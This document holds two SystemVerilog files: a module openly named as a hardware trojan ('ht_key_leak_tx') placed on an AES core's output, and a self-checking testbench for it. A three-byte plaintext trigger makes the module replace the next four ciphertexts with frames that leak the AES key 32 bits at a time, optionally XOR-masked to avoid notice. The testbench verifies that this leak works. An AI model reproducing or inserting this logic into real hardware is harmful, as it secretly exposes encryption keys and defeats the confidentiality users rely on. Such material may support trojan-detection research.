// File: rtl/ht_key_leak_tx.sv
// ht_key_leak_tx -- key-leak channel transmitter placed between the AES
// core's ciphertext output and the top-level output.
//
// Watches the plaintext top byte of every completed encryption for the
// three-byte trigger TRIG_B0, TRIG_B1, TRIG_B2. After the encryption that
// completes the trigger, the next four ciphertexts have their upper half
// replaced by a leak frame:
//   out = {SYNC_WORD, 6'b0, leak_idx, 8'h00, key chunk, ct_in[63:0]}
// Otherwise ciphertext is passed through with one cycle of latency.
//
// Optional feature (macro HT_LEAK_MASK_EN): the key chunk is XORed with
// ct_in[31:0] of the same encryption before insertion; the receiver removes
// the mask using out[31:0], which always carries untouched ciphertext.
//
// Ports:
//   clk          system clock, rising edge
//   rst          asynchronous active-high reset
//   pt_in        plaintext of the encryption completing this cycle
//   key          AES key, sampled at each leak frame
//   ct_in        ciphertext from the AES core
//   ct_valid     one-cycle pulse qualifying pt_in / ct_in
//   out          registered ciphertext or leak frame
//   out_valid    ct_valid delayed by one cycle
//   trigger      high while the unit is leaking
//   leak_idx     index of the next key chunk to send
//   dbg_state    current FSM state (IDLE=0, LEAK=1, LOCKED=2)
//   dbg_seq_pos  number of trigger bytes matched so far
//
// Handshake: there is no back-pressure. Every cycle with ct_valid=1 is one
// transaction; its result appears on out in the following cycle with
// out_valid=1. Back-to-back ct_valid pulses are processed independently.
// With ct_valid=0 the internal state and out are held.

module ht_key_leak_tx #(
   parameter logic [15:0] SYNC_WORD = 16'hA5C3,
   parameter logic [7:0]  TRIG_B0   = 8'h91,
   parameter logic [7:0]  TRIG_B1   = 8'hF1,
   parameter logic [7:0]  TRIG_B2   = 8'hE1,
   parameter bit          REARM     = 1'b1
) (
   input  logic         clk,
   input  logic         rst,
   input  logic [127:0] pt_in,
   input  logic [127:0] key,
   input  logic [127:0] ct_in,
   input  logic         ct_valid,
   output logic [127:0] out,
   output logic         out_valid,
   output logic         trigger,
   output logic [1:0]   leak_idx,
   output logic [1:0]   dbg_state,
   output logic [1:0]   dbg_seq_pos
);

   typedef enum logic [1:0] {
      IDLE   = 2'd0,
      LEAK   = 2'd1,
      LOCKED = 2'd2
   } state_t;

   state_t       state, state_nxt;
   logic [1:0]   seq_pos, seq_pos_nxt;
   logic [1:0]   leak_idx_nxt;
   logic [127:0] out_nxt;
   logic [7:0]   b;
   logic [7:0]   trig_exp;
   logic [31:0]  chunk;
   logic         unused_pt;

   assign b = pt_in[127:120];

   // Only the top plaintext byte takes part in trigger matching.
   assign unused_pt = ^pt_in[119:0];

   // Trigger byte expected at the current match position.
   always_comb begin
      case (seq_pos)
         2'd0:    trig_exp = TRIG_B0;
         2'd1:    trig_exp = TRIG_B1;
         default: trig_exp = TRIG_B2;
      endcase
   end

   // Key chunk for the frame being sent; index 0 is the most significant word.
   always_comb begin
      case (leak_idx)
         2'd0:    chunk = key[127:96];
         2'd1:    chunk = key[95:64];
         2'd2:    chunk = key[63:32];
         default: chunk = key[31:0];
      endcase
`ifdef HT_LEAK_MASK_EN
      chunk = chunk ^ ct_in[31:0];
`endif
   end

   always_comb begin
      state_nxt    = state;
      seq_pos_nxt  = seq_pos;
      leak_idx_nxt = leak_idx;
      out_nxt      = out;
      if (ct_valid) begin
         case (state)
            IDLE: begin
               out_nxt = ct_in;
               if (b == trig_exp) begin
                  if (seq_pos == 2'd2) begin
                     // Match complete: this encryption passes through, the
                     // following ones carry the frames.
                     state_nxt    = LEAK;
                     seq_pos_nxt  = 2'd0;
                     leak_idx_nxt = 2'd0;
                  end else begin
                     seq_pos_nxt = seq_pos + 2'd1;
                  end
               end else if (b == TRIG_B0) begin
                  // A broken sequence may itself start a new one.
                  seq_pos_nxt = 2'd1;
               end else begin
                  seq_pos_nxt = 2'd0;
               end
            end
            LEAK: begin
               out_nxt = {SYNC_WORD, 6'b0, leak_idx, 8'h00, chunk, ct_in[63:0]};
               if (leak_idx == 2'd3) begin
                  leak_idx_nxt = 2'd0;
                  state_nxt    = REARM ? IDLE : LOCKED;
               end else begin
                  leak_idx_nxt = leak_idx + 2'd1;
               end
            end
            LOCKED: begin
               out_nxt = ct_in;
            end
            default: begin
               out_nxt   = ct_in;
               state_nxt = IDLE;
            end
         endcase
      end
   end

   always_ff @(posedge clk or posedge rst) begin
      if (rst) begin
         state     <= IDLE;
         seq_pos   <= 2'd0;
         leak_idx  <= 2'd0;
         out       <= 128'd0;
         out_valid <= 1'b0;
      end else begin
         state     <= state_nxt;
         seq_pos   <= seq_pos_nxt;
         leak_idx  <= leak_idx_nxt;
         out       <= out_nxt;
         out_valid <= ct_valid;
      end
   end

   assign trigger     = (state == LEAK);
   assign dbg_state   = state;
   assign dbg_seq_pos = seq_pos;

endmodule

// File: tb/tb_ht_key_leak_tx.sv
// Testbench for ht_key_leak_tx. Two instances share one stimulus stream:
// dut0 re-arms after a leak, dut1 locks into pass-through after one leak.
// Expected results come from a reference model that tracks the plaintext
// byte history since the unit last became idle and counts frames.

module tb_ht_key_leak_tx;

   localparam int W = 133; // {out[127:0], trigger, leak_idx[1:0], seq_pos[1:0]}
   localparam logic [127:0] TEST_KEY = 128'h1111_2222_3333_4444_5555_6666_7777_C0DE;

   logic         clk;
   logic         rst;
   logic [127:0] pt_in, key, ct_in;
   logic         ct_valid;

   logic [127:0] out0, out1;
   logic         ov0, ov1, trig0, trig1;
   logic [1:0]   idx0, idx1, st0, st1, seq0, seq1;

   logic [W-1:0] exp_q0[$];
   logic [W-1:0] exp_q1[$];
   logic [127:0] last_exp[2];

   int errors = 0;
   int checks = 0;

   // reference model state
   int           m_mode[2];   // 0 idle, 1 leaking, 2 locked
   int           m_frame[2];  // frames already sent in the current leak
   logic [7:0]   m_h1[2];     // most recent byte seen while idle
   logic [7:0]   m_h2[2];     // byte before that
   int           m_hlen[2];

   ht_key_leak_tx #(.REARM(1'b1)) dut0 (
      .clk(clk), .rst(rst), .pt_in(pt_in), .key(key), .ct_in(ct_in),
      .ct_valid(ct_valid), .out(out0), .out_valid(ov0), .trigger(trig0),
      .leak_idx(idx0), .dbg_state(st0), .dbg_seq_pos(seq0)
   );

   ht_key_leak_tx #(.REARM(1'b0)) dut1 (
      .clk(clk), .rst(rst), .pt_in(pt_in), .key(key), .ct_in(ct_in),
      .ct_valid(ct_valid), .out(out1), .out_valid(ov1), .trigger(trig1),
      .leak_idx(idx1), .dbg_state(st1), .dbg_seq_pos(seq1)
   );

   // ---------------- clock / reset ----------------
   initial clk = 1'b0;
   always #5 clk = ~clk;

   // ---------------- helpers ----------------
   task automatic chk(input string name, input int i, input logic [127:0] got,
                      input logic [127:0] exp);
      checks++;
      if (got !== exp) begin
         errors++;
         $display("FAIL dut%0d %s: got %h expected %h", i, name, got, exp);
      end
   endtask

   function automatic logic [127:0] rand128();
      return {$urandom, $urandom, $urandom, $urandom};
   endfunction

   task automatic model_reset();
      for (int i = 0; i < 2; i++) begin
         m_mode[i]   = 0;
         m_frame[i]  = 0;
         m_hlen[i]   = 0;
         m_h1[i]     = 8'h00;
         m_h2[i]     = 8'h00;
         last_exp[i] = 128'd0;
      end
      exp_q0.delete();
      exp_q1.delete();
   endtask

   // One encryption through the model of instance i.
   task automatic model_step(input int i, input logic [7:0] b, input logic [127:0] k,
                             input logic [127:0] ct, output logic [W-1:0] e);
      logic [127:0] eo;
      logic [127:0] sh;
      logic [31:0]  ch;
      logic [1:0]   fi;
      logic [1:0]   eidx;
      logic [1:0]   eseq;
      bit           rearm;
      rearm = (i == 0);
      eo = ct;
      if (m_mode[i] == 0) begin
         if (m_hlen[i] >= 2 && m_h2[i] == 8'h91 && m_h1[i] == 8'hF1 && b == 8'hE1) begin
            m_mode[i]  = 1;
            m_frame[i] = 0;
            m_hlen[i]  = 0;
         end else begin
            m_h2[i]   = m_h1[i];
            m_h1[i]   = b;
            m_hlen[i] = m_hlen[i] + 1;
         end
      end else if (m_mode[i] == 1) begin
         sh = k >> (96 - 32 * m_frame[i]);
         ch = sh[31:0];
`ifdef HT_LEAK_MASK_EN
         ch = ch ^ ct[31:0];
`endif
         fi = m_frame[i][1:0];
         eo = {16'hA5C3, 6'b0, fi, 8'h00, ch, ct[63:0]};
         m_frame[i] = m_frame[i] + 1;
         if (m_frame[i] == 4) begin
            m_mode[i]  = rearm ? 0 : 2;
            m_frame[i] = 0;
            m_hlen[i]  = 0;
         end
      end
      eidx = (m_mode[i] == 1) ? m_frame[i][1:0] : 2'd0;
      if (m_mode[i] != 0)
         eseq = 2'd0;
      else if (m_hlen[i] >= 2 && m_h2[i] == 8'h91 && m_h1[i] == 8'hF1)
         eseq = 2'd2;
      else if (m_hlen[i] >= 1 && m_h1[i] == 8'h91)
         eseq = 2'd1;
      else
         eseq = 2'd0;
      e = {eo, (m_mode[i] == 1), eidx, eseq};
   endtask

   // ---------------- driver tasks ----------------
   task automatic drive(input logic [7:0] b, input logic [127:0] k, input logic [127:0] ct);
      logic [127:0] r;
      logic [W-1:0] e;
      @(negedge clk);
      r        = rand128();
      pt_in    = {b, r[119:0]};
      key      = k;
      ct_in    = ct;
      ct_valid = 1'b1;
      model_step(0, b, k, ct, e);
      exp_q0.push_back(e);
      model_step(1, b, k, ct, e);
      exp_q1.push_back(e);
   endtask

   task automatic idle_cycle();
      @(negedge clk);
      ct_valid = 1'b0;
      pt_in    = rand128();
      ct_in    = rand128();
      key      = rand128();
   endtask

   task automatic check_reset_outputs();
      chk("reset out", 0, out0, 128'd0);
      chk("reset out_valid", 0, {127'd0, ov0}, 128'd0);
      chk("reset trigger", 0, {127'd0, trig0}, 128'd0);
      chk("reset leak_idx", 0, {126'd0, idx0}, 128'd0);
      chk("reset out", 1, out1, 128'd0);
      chk("reset out_valid", 1, {127'd0, ov1}, 128'd0);
      chk("reset trigger", 1, {127'd0, trig1}, 128'd0);
      chk("reset leak_idx", 1, {126'd0, idx1}, 128'd0);
   endtask

   // Asserts reset between clock edges and checks it acts without a clock.
   task automatic reset_mid_cycle();
      @(posedge clk);
      #2;
      rst = 1'b1;
      #1;
      check_reset_outputs();
      model_reset();
      @(negedge clk);
      rst = 1'b0;
   endtask

   // ---------------- scoreboard monitor ----------------
   task automatic mon(input int i, input logic [127:0] o, input logic ov,
                      input logic tg, input logic [1:0] ix, input logic [1:0] sq);
      logic [W-1:0] e;
      int n;
      n = (i == 0) ? exp_q0.size() : exp_q1.size();
      if (ov) begin
         if (n == 0) begin
            checks++;
            errors++;
            $display("FAIL dut%0d out_valid: got 1 with no transaction outstanding", i);
         end else begin
            e = (i == 0) ? exp_q0.pop_front() : exp_q1.pop_front();
            chk("out", i, o, e[132:5]);
            chk("trigger", i, {127'd0, tg}, {127'd0, e[4]});
            chk("leak_idx", i, {126'd0, ix}, {126'd0, e[3:2]});
            chk("seq_pos", i, {126'd0, sq}, {126'd0, e[1:0]});
            last_exp[i] = e[132:5];
         end
      end else begin
         chk("out hold", i, o, last_exp[i]);
      end
   endtask

   always @(negedge clk) begin
      if (!rst) begin
         mon(0, out0, ov0, trig0, idx0, seq0);
         mon(1, out1, ov1, trig1, idx1, seq1);
      end
   end

   // ---------------- stimulus ----------------
   initial begin
      rst      = 1'b0;
      ct_valid = 1'b0;
      pt_in    = '0;
      key      = '0;
      ct_in    = '0;
      model_reset();
      #2;
      rst = 1'b1;
      #1;
      check_reset_outputs();
      repeat (2) @(posedge clk);
      @(negedge clk);
      rst = 1'b0;

      // plain pass-through of a first trigger byte
      drive(8'h91, TEST_KEY, 128'h0123_4567_89AB_CDEF_0123_4567_89AB_CDEF);
      // complete the trigger, then four frames on back-to-back pulses
      drive(8'hF1, TEST_KEY, rand128());
      drive(8'hE1, TEST_KEY, rand128());
      for (int f = 0; f < 4; f++) drive(8'h91, TEST_KEY, rand128());
      idle_cycle();
      idle_cycle();

      // dut0 re-arms and leaks again; dut1 stays locked
      drive(8'h91, TEST_KEY, rand128());
      idle_cycle();
      drive(8'hF1, TEST_KEY, rand128());
      drive(8'hE1, TEST_KEY, rand128());
      for (int f = 0; f < 4; f++) drive(8'hE1, TEST_KEY, rand128());
      idle_cycle();

      // broken then restarted sequence still triggers
      drive(8'h91, TEST_KEY, rand128());
      drive(8'h91, TEST_KEY, rand128());
      drive(8'hF1, TEST_KEY, rand128());
      drive(8'hE1, TEST_KEY, rand128());
      for (int f = 0; f < 4; f++) drive(8'h00, TEST_KEY, rand128());

      // wrong third byte: no trigger, match position clears
      drive(8'h91, TEST_KEY, rand128());
      drive(8'hF1, TEST_KEY, rand128());
      drive(8'h11, TEST_KEY, rand128());
      drive(8'hE1, TEST_KEY, rand128());
      idle_cycle();

      // reset in the middle of a leak
      drive(8'h91, TEST_KEY, rand128());
      drive(8'hF1, TEST_KEY, rand128());
      drive(8'hE1, TEST_KEY, rand128());
      drive(8'h00, TEST_KEY, rand128());
      drive(8'h00, TEST_KEY, rand128());
      idle_cycle();
      reset_mid_cycle();
      drive(8'h42, TEST_KEY, rand128());
      idle_cycle();

      // randomized traffic biased toward trigger bytes
      for (int n = 0; n < 400; n++) begin
         int r;
         logic [7:0] b;
         r = $urandom_range(0, 9);
         if (r < 3)      b = 8'h91;
         else if (r < 5) b = 8'hF1;
         else if (r < 7) b = 8'hE1;
         else            b = 8'($urandom_range(0, 255));
         drive(b, rand128(), rand128());
         if ($urandom_range(0, 3) == 0) idle_cycle();
         if (n == 250) begin
            idle_cycle();
            reset_mid_cycle();
         end
      end

      repeat (3) idle_cycle();
      checks++;
      if (exp_q0.size() != 0 || exp_q1.size() != 0) begin
         errors++;
         $display("FAIL drain: outstanding dut0=%0d dut1=%0d expected 0",
                  exp_q0.size(), exp_q1.size());
      end
      $display("Result: errors=%0d of %0d checks", errors, checks);
      $finish;
   end

endmodule
